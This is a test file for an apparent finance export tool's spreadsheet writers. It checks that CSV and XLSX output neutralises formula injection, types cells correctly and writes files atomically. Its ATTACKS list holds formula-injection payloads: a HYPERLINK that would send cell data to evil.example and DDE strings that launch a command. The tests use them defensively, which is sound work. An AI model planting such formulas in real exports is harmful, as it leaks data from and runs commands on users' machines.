// The shared cell rules every XLSX and CSV writer uses: formula-looking text neutralised, amounts
// as numbers with currency formats, identifiers as text, dates as dates, atomic files.
import { describe, it, expect } from 'vitest';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { mkdtempSync, readdirSync, readFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { neutralise, csvField, moneyFormat, type Column } from '../../core/export/cells';
import { withoutInvoicesPageR } from '../../core/export/open-items';
import { ageingBucket, journalLines, parsePeriod } from '../../core/export/month-end';
import { CsvWriter, XlsxWriter, withWriter } from './writers';

const ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+cmd|" /C calc"!A0', '-1+1', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+2', '\r=1+2'];

describe('neutralise', () => {
  it('prefixes an apostrophe to text a spreadsheet would evaluate, and leaves other text alone', () => {
    for (const a of ATTACKS) expect(neutralise(a)).toBe(`'${a}`);
    for (const ok of ['INV-10042SC', 'Shortage Claim for Invoice - INV-10042', '00012345678901234567', '', "'quoted"]) expect(neutralise(ok)).toBe(ok);
  });

  it('for any text: the result never starts with a trigger, and a CSV reader gets exactly the neutralised text back', () => {
    const text = fc.oneof(fc.string(), fc.constantFrom(...ATTACKS), fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b));
    fc.assert(fc.property(text, (t) => {
      const n = neutralise(t);
      expect(/^[=+\-@\t\r]/.test(n)).toBe(false);
      expect(n === t || n === `'${t}`).toBe(true);
      const parsed = Papa.parse<string[]>(`${csvField('text', t, 'USD')},x`, { newline: '\r\n', delimiter: ',' }).data[0]!;
      expect(parsed[0]).toBe(n);
    }), { numRuns: 500 });
  });

  it('in CSV: text is neutralised and quoted, negative amounts stay numbers', () => {
    expect(csvField('text', '=HYPERLINK("x","y")', 'USD')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvField('text', '-1+1', 'USD')).toBe("'-1+1");
    expect(csvField('money', -45_120, 'USD')).toBe('-451.20');
    expect(csvField('money', 5, 'JPY')).toBe('5');
    expect(csvField('id', '00012345678901234567', 'USD')).toBe('00012345678901234567');
  });
});

describe('XlsxWriter and CsvWriter', () => {
  const columns: Column[] = [
    { header: 'Document', kind: 'id' }, { header: 'Description', kind: 'text' }, { header: 'Amount', kind: 'money' }, { header: 'Date', kind: 'date' },
    { header: 'Units', kind: 'int' }, { header: 'Unit cost', kind: 'cost' },
  ];

  it('writes typed cells that read back with their types and formats; no file under the target name until complete', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'recoup-writers-'));
    const out = join(dir, 'x.xlsx');
    await withWriter(new XlsxWriter(out), (w) => {
      const s = w.sheet({ name: 'Data', columns, currency: 'EUR', table: true });
      expect(existsSync(out)).toBe(false);
      for (const [i, a] of ATTACKS.entries()) s.row(['4040404040404', a, -123_456 - i, '2026-09-03', 24, 188_000]);
    });
    expect(readdirSync(dir)).toEqual(['x.xlsx']);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const ws = wb.getWorksheet('Data')!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.getRow(1).font?.bold).toBe(true);
    for (const [i, a] of ATTACKS.entries()) {
      const r = ws.getRow(i + 2);
      expect(r.getCell(1).value).toBe('4040404040404'); // text, never 4.04E+12
      expect(r.getCell(1).numFmt).toBe('@');
      // XML reads a carriage return back as a line feed; the apostrophe is what matters.
      expect(r.getCell(2).value).toBe(`'${a}`.replace(/\r/g, '\n'));
      expect(r.getCell(2).type).toBe(ExcelJS.ValueType.String);
      expect(r.getCell(3).value).toBe(-(123_456 + i) / 100);
      expect(r.getCell(3).numFmt).toBe('"€"#,##0.00;-"€"#,##0.00');
      expect(r.getCell(4).value).toEqual(new Date(Date.UTC(2026, 8, 3)));
      expect(r.getCell(4).numFmt).toBe('yyyy-mm-dd');
      expect(r.getCell(6).value).toBe(18.8);
    }
    expect(ws.getColumn(2).width).toBeGreaterThan(10);
  });

  it('a failed export leaves neither the target nor a temporary file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'recoup-writers-'));
    await expect(withWriter(new XlsxWriter(join(dir, 'y.xlsx')), (w) => {
      w.sheet({ name: 'Data', columns, currency: 'USD', table: true }).row(['a', 'b', 1, null, 1, 1]);
      throw new Error('disk full');
    })).rejects.toThrow('disk full');
    await expect(withWriter(new CsvWriter(join(dir, 'y.csv'), columns, 'USD'), async () => { throw new Error('boom'); })).rejects.toThrow('boom');
    expect(readdirSync(dir)).toEqual([]);
  });

  it('CSV has a BOM, CRLF rows and neutralised text', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'recoup-writers-'));
    const out = join(dir, 'z.csv');
    await withWriter(new CsvWriter(out, columns, 'USD'), async (w) => {
      for (const a of ATTACKS) await w.row(['INV-1', a, -100, '2026-09-03', 1, 12_345]);
    });
    const text = readFileSync(out, 'utf8');
    expect(text.startsWith('\ufeffDocument,Description,Amount,Date,Units,Unit cost\r\n')).toBe(true);
    const rows = text.slice(1).split('\r\n').slice(1, -1);
    expect(rows[0]).toBe(`INV-1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",-1.00,2026-09-03,1,1.2345`);
    expect(rows[2]).toBe("INV-1,'-1+1,-1.00,2026-09-03,1,1.2345");
    for (const r of rows) expect(r.split(',')[1]!.replace(/^"/, '')[0]).toBe("'");
  });
});

describe('month-end and statement rules', () => {
  it('periods, ageing buckets, the Invoices page R', () => {
    expect(parsePeriod('2026-02')).toEqual({ period: '2026-02', start: '2026-02-01', end: '2026-02-28' });
    expect(parsePeriod('2028-02')?.end).toBe('2028-02-29');
    expect(parsePeriod('2026-13')).toBeNull();
    expect([null, -3, 0, 1, 30, 31, 61, 91].map(ageingBucket)).toEqual(['no due date', 'current', 'current', '1-30', '1-30', '31-60', '61-90', '90+']);
    const known = new Set(['INV-1020', 'INV-1001SCR']);
    const isKnown = (s: string) => known.has(s);
    expect(withoutInvoicesPageR('INV-1020R', isKnown)).toBe('INV-1020');
    expect(withoutInvoicesPageR('INV-1001SCR', isKnown)).toBe('INV-1001SCR'); // a real reversal is never cut
    expect(withoutInvoicesPageR('ABCR', isKnown)).toBe('ABCR'); // nothing known: keep as written
  });

  it('the journal balances for any mix of lines, hidden lines included', () => {
    const j = journalLines({
      paymentsCents: 212_732 + 500, linesPaidCents: 212_732, otherCents: -4_480,
      grossByFamily: [{ family: 'invoice', cents: 269_100 }, { family: 'shortage_claim', cents: -45_120 }, { family: 'chargeback', cents: -6_768 }, { family: 'mystery', cents: 0 }],
    });
    const dr = j.reduce((s, l) => s + l.debitCents, 0);
    expect(dr).toBe(j.reduce((s, l) => s + l.creditCents, 0));
    expect(j.find((l) => l.account === '1290')).toMatchObject({ creditCents: 500 });
    expect(moneyFormat('USD')).toBe('"$"#,##0.00;-"$"#,##0.00');
    expect(moneyFormat('TRY')).toBe('#,##0.00 "TRY";-#,##0.00 "TRY"');
  });
});
